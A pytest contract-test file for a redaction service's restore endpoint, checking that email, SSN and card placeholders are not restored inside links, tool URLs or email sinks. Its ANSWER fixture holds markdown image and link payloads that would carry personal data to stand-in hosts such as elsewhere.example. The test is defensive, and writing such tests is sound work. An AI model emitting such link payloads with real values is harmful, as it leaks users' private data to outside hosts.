"""Restore by format: nothing leaves with a link, over the contract, whole and in pieces."""

from __future__ import annotations

import random
import uuid
from collections.abc import AsyncIterator
from pathlib import Path

import grpc
import pytest
import yaml
from grpc import aio
from hauberk.redaction.v1 import redaction_service_pb2 as pb

from services.redaction.settings import DEFAULT_POLICY
from tests.contract.redaction.world import World, mounted, reason_of
from tests.support.stores import DataStores

ANSWER = (
    "Dear <EMAIL_ADDRESS>,\n![](https://elsewhere.example/?q=<US_SSN>) [click](//elsewhere.example/<EMAIL_ADDRESS>)\n"
    "<img src=//x/<US_SSN>> https://x/?a=<US_SSN>&b=<CREDIT_CARD> and <CREDIT_CARD>.\n\n[x]: https://x/<US_SSN>\n<US_SSN_9>"
)
RESTORED = (
    "Dear jane@mail.example,\n![](https://elsewhere.example/?q=<US_SSN>) [click](//elsewhere.example/<EMAIL_ADDRESS>)\n"
    "<img src=//x/<US_SSN>> https://x/?a=<US_SSN>&b=<CREDIT_CARD> and 4532015112830366.\n\n[x]: https://x/<US_SSN>\n<US_SSN_9>"
)


async def redacted(world: World) -> str:
    conversation = f"c-{uuid.uuid4()}"
    await world.redact(conversation, "I am jane@mail.example, ssn 219-09-9999, card 4532015112830366")
    return conversation


async def test_an_answer_that_would_carry_values_away(world: World) -> None:
    conversation = await redacted(world)
    back = await world.restore(conversation, ANSWER)
    assert back.texts[0] == RESTORED
    assert (back.restored, back.unknown, back.withheld) == (2, 1, 6)


async def test_the_same_answer_in_pieces(world: World) -> None:
    conversation = await redacted(world)
    rnd = random.Random(7)
    for _ in range(20):
        pieces, at = [], 0
        while at < len(ANSWER):
            size = rnd.randint(1, 30)
            pieces.append(ANSWER[at : at + size])
            at += size
        assert "".join(await world.stream(conversation, pieces)) == RESTORED


async def test_a_long_text_restores_like_a_short_one(world: World) -> None:
    conversation = await redacted(world)
    back = await world.restore(conversation, (ANSWER + "\n\n") * 400)
    assert back.texts[0] == (RESTORED + "\n\n") * 400
    assert back.withheld == 2400


async def test_the_users_own_link_keeps_its_placeholder(world: World) -> None:
    conversation = f"c-{uuid.uuid4()}"
    text = "see https://example.com/?mail=jane@example.com or write to jane@example.com"
    answer = await world.redact(conversation, text)
    back = await world.restore(conversation, answer.texts[0].text)
    assert back.texts[0] == "see https://example.com/?mail=<EMAIL_ADDRESS> or write to jane@example.com"
    assert (back.restored, back.withheld) == (1, 1)


async def test_a_listed_host_of_one_brand(data_stores: DataStores, tmp_path: Path) -> None:
    policy = yaml.safe_load(DEFAULT_POLICY.read_text())
    policy["additions"] = [{"organisation": "acme", "brand": "shop", "link_hosts": ["shop.acme.example"]}]
    path = tmp_path / "redaction.yaml"
    path.write_text(yaml.safe_dump(policy))
    link = "[a](https://shop.acme.example/?m=<EMAIL_ADDRESS>)"
    async with mounted(data_stores, redaction_policy=path) as world:
        conversation = await redacted(world)
        assert (await world.restore(conversation, link)).texts[0] == link.replace(
            "<EMAIL_ADDRESS>", "jane%40mail.example"
        )
        await world.redact(conversation, "jane@mail.example", org="other")
        assert (await world.restore(conversation, link, org="other")).texts[0] == link


async def test_arguments_of_a_tool(world: World) -> None:
    conversation = await redacted(world)
    arguments = '{"to":"<EMAIL_ADDRESS>","body":"<US_SSN>","cc":["<EMAIL_ADDRESS>"],"url":"https://x/?<US_SSN>"}'
    back = await world.restore_json(conversation, arguments, keep=["/to", "/cc/*"])
    assert back.texts[0] == arguments.replace('"<US_SSN>"', '"219-09-9999"')
    assert (back.restored, back.withheld) == (1, 3)


@pytest.mark.parametrize(
    ("request_", "field"),
    [
        (pb.RestoreRequest(texts=["{}", "{"], format=pb.RESTORE_FORMAT_JSON), "texts[1]"),
        (pb.RestoreRequest(texts=["{}"], format=pb.RESTORE_FORMAT_JSON, keep=["/a", "b"]), "keep[1]"),
        (pb.RestoreRequest(texts=["{}"], keep=["/a"]), "keep"),
        (pb.RestoreRequest(texts=["{}"], format=pb.RESTORE_FORMAT_MARKDOWN, keep=["/a"]), "keep"),
    ],
)
async def test_requests_that_make_no_sense(world: World, request_: pb.RestoreRequest, field: str) -> None:
    request_.conversation = "c"
    with pytest.raises(aio.AioRpcError) as refused:
        await world.stub().Restore(request_, metadata=world.token())
    assert reason_of(refused.value) == (grpc.StatusCode.INVALID_ARGUMENT, "INVALID_ARGUMENT")
    assert (refused.value.details() or "").endswith(field)


async def test_a_sink_takes_only_what_the_policy_lets_it(world: World) -> None:
    conversation = await redacted(world)
    arguments = '{"card":"<CREDIT_CARD>","more":["< credit_card >"],"ssn":"<us_ssn>"}'
    back = await world.restore_json(conversation, arguments)
    assert back.texts[0] == arguments.replace("<us_ssn>", "219-09-9999")
    assert (back.restored, back.withheld) == (1, 2)
    assert (await world.restore_json(conversation, arguments, shown=True)).withheld == 0
    request = pb.RestoreRequest(conversation=conversation, texts=[arguments], format=pb.RESTORE_FORMAT_JSON)
    request.fields.add(pointer="/card", entities=["CREDIT_CARD"])
    asked_for = await world.stub().Restore(request, metadata=world.token())
    assert asked_for.texts[0] == back.texts[0].replace('"card":"<CREDIT_CARD>"', '"card":"4532015112830366"')
    request.keep.append("/card")
    assert (await world.stub().Restore(request, metadata=world.token())).texts[0] == back.texts[0]


async def test_a_mail_takes_less_than_a_screen_whole_and_in_pieces(world: World) -> None:
    conversation = await redacted(world)
    text = "<EMAIL_ADDRESS>: < us_ssn > and &lt;CREDIT_CARD&gt;"
    shown, mailed = (
        "jane@mail.example: 219-09-9999 and 4532015112830366",
        text.replace("<EMAIL_ADDRESS>", "jane@mail.example"),
    )
    for sink, expected in ((pb.RESTORE_SINK_SHOWN, shown), (pb.RESTORE_SINK_EMAIL, mailed)):
        request = pb.RestoreRequest(conversation=conversation, texts=[text], sink=sink)
        assert (await world.stub().Restore(request, metadata=world.token())).texts[0] == expected
        pieces = [pb.RestoreStreamRequest(chunk=piece) for piece in (text[:22], text[22:40], text[40:])]
        pieces[0].conversation, pieces[0].sink = conversation, sink

        async def chunks(sent: list[pb.RestoreStreamRequest] = pieces) -> AsyncIterator[pb.RestoreStreamRequest]:
            for piece in sent:
                yield piece

        answers = world.stub().RestoreStream(chunks(), metadata=world.token())
        assert "".join([answer.chunk async for answer in answers]) == expected


async def test_fields_are_for_json(world: World) -> None:
    for format_, field in ((pb.RESTORE_FORMAT_MARKDOWN, "fields"), (pb.RESTORE_FORMAT_JSON, "fields[0]")):
        request = pb.RestoreRequest(conversation="c", texts=["{}"], format=format_)
        request.fields.add(pointer="card", entities=["CREDIT_CARD"])
        with pytest.raises(aio.AioRpcError) as refused:
            await world.stub().Restore(request, metadata=world.token())
        assert (refused.value.details() or "").endswith(field)
